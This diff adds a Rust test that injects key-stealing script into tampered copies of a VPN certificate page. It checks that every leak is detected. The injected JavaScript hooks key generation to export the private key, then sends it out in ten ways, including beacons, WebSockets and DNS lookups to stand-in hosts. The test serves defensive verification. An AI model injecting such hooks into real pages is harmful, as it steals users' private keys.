@@ -1,0 +1,87 @@
+//! The checks of the main job can fail: copies of the page that carry the key off are caught by them.
+
+use std::{fs, path::Path};
+
+use anyhow::{Context, Result, ensure};
+use tests::{
+    browser::Browser,
+    page,
+    rehearsal::{Rehearsal, Served, write},
+};
+
+use crate::evidence::Evidence;
+
+#[tokio::test]
+async fn a_page_that_leaks_the_key_is_caught() -> Result<()> {
+    let rehearsal = Rehearsal::provisioned("udp")?;
+    for (at, (way, code)) in WAYS.iter().enumerate() {
+        let copy = tempfile::tempdir()?;
+        leaking_copy(&rehearsal.site(), copy.path(), code)?;
+        let username = format!("user-{at}");
+        let url = Served::folder(copy.path())?;
+        let evidence = visit(&rehearsal, &url.url, &username).await.with_context(|| format!("leaking {way}"))?;
+        let (left, found) = (evidence.nothing_left_the_page(&url.url), evidence.the_key_is_nowhere_else(&rehearsal));
+        ensure!(left.is_err() || found.is_err(), "the key was carried off {way}, and nobody noticed");
+        println!("{way}: {}", left.err().or(found.err()).map(|error| error.to_string()).unwrap_or_default());
+    }
+    Ok(())
+}
+
+async fn visit(rehearsal: &Rehearsal, url: &str, username: &str) -> Result<Evidence> {
+    let folder = rehearsal.path();
+    let browser = Browser::open(url, 1280, 900).await?;
+    let (csr, crt, ovpn) = (format!("{username}.csr"), format!("{username}.crt"), format!("{username}.ovpn"));
+    fs::copy(page::make_request(&browser, username).await?, folder.join(&csr))?;
+    rehearsal.run(&["sign", &csr, "--out", &crt, "--yes"])?;
+    page::go_on(&browser).await?;
+    page::paste(&browser, &folder.join(&crt)).await?;
+    fs::copy(page::save_profile(&browser, username).await?, folder.join(&ovpn))?;
+    // What a page sends when it has all it wants is sent soon; a record that ends too early would miss it.
+    browser.evaluate("new Promise(done => setTimeout(() => done(true), 300))").await?;
+    Evidence::collect(browser, folder, &ovpn).await
+}
+
+/// The page in `site`, without its policy, and with a script that gets hold of the key and runs `code` with it.
+fn leaking_copy(site: &Path, copy: &Path, code: &str) -> Result<()> {
+    for entry in fs::read_dir(site)? {
+        let entry = entry?;
+        if entry.path().is_file() {
+            fs::copy(entry.path(), copy.join(entry.file_name()))?;
+        }
+    }
+    fs::remove_file(copy.join("_headers"))?;
+    let index = fs::read_to_string(copy.join("index.html"))?;
+    let index = index.replacen("http-equiv", "data-removed", 1);
+    ensure!(!index.contains("http-equiv=\"Content-Security-Policy\""), "the policy is still there");
+    let (before, after) = index.split_once("<head>").context("the page's head")?;
+    let script = format!("<script>{HOOK} const leak = (der, pem, hex) => {{ {code} }};</script>");
+    write(&copy.join("index.html"), format!("{before}<head>{script}{after}"))
+}
+
+/// Sees every key that is made, whether the page exports it or not.
+const HOOK: &str = r#"
+    const generate = crypto.subtle.generateKey.bind(crypto.subtle);
+    crypto.subtle.generateKey = async (...arguments) => {
+        const made = await generate(...arguments);
+        if (made.privateKey) {
+            const der = new Uint8Array(await crypto.subtle.exportKey('pkcs8', made.privateKey));
+            const hex = [...der].map(byte => byte.toString(16).padStart(2, '0')).join('');
+            const pem = btoa(String.fromCharCode(...der)).replace(/.{64}/g, '$&\n');
+            leak(der, pem, hex);
+        }
+        return made;
+    };"#;
+
+/// How the key is carried off.
+const WAYS: &[(&str, &str)] = &[
+    ("in the body of a request to the page's own origin", "fetch('collect', { method: 'POST', body: der });"),
+    ("in the address of a request to the page's own origin", "fetch('collect?' + encodeURIComponent(hex));"),
+    ("in a request to another origin", "fetch('http://127.0.0.1:9/' + hex, { mode: 'no-cors' });"),
+    ("in a beacon", "navigator.sendBeacon('http://127.0.0.1:9/', pem);"),
+    ("through a WebSocket", "new WebSocket('ws://127.0.0.1:9/' + hex);"),
+    ("by a worker", "new Worker(URL.createObjectURL(new Blob([`fetch('http://127.0.0.1:9/${hex}')`])));"),
+    ("by an image", "new Image().src = 'collect?' + hex;"),
+    ("by a name to be looked up", "fetch('http://' + hex.slice(400, 460) + '.example.com/').catch(() => 0);"),
+    ("to the console", "console.log(pem);"),
+    ("into the storage", "localStorage.setItem('key', pem);"),
+];
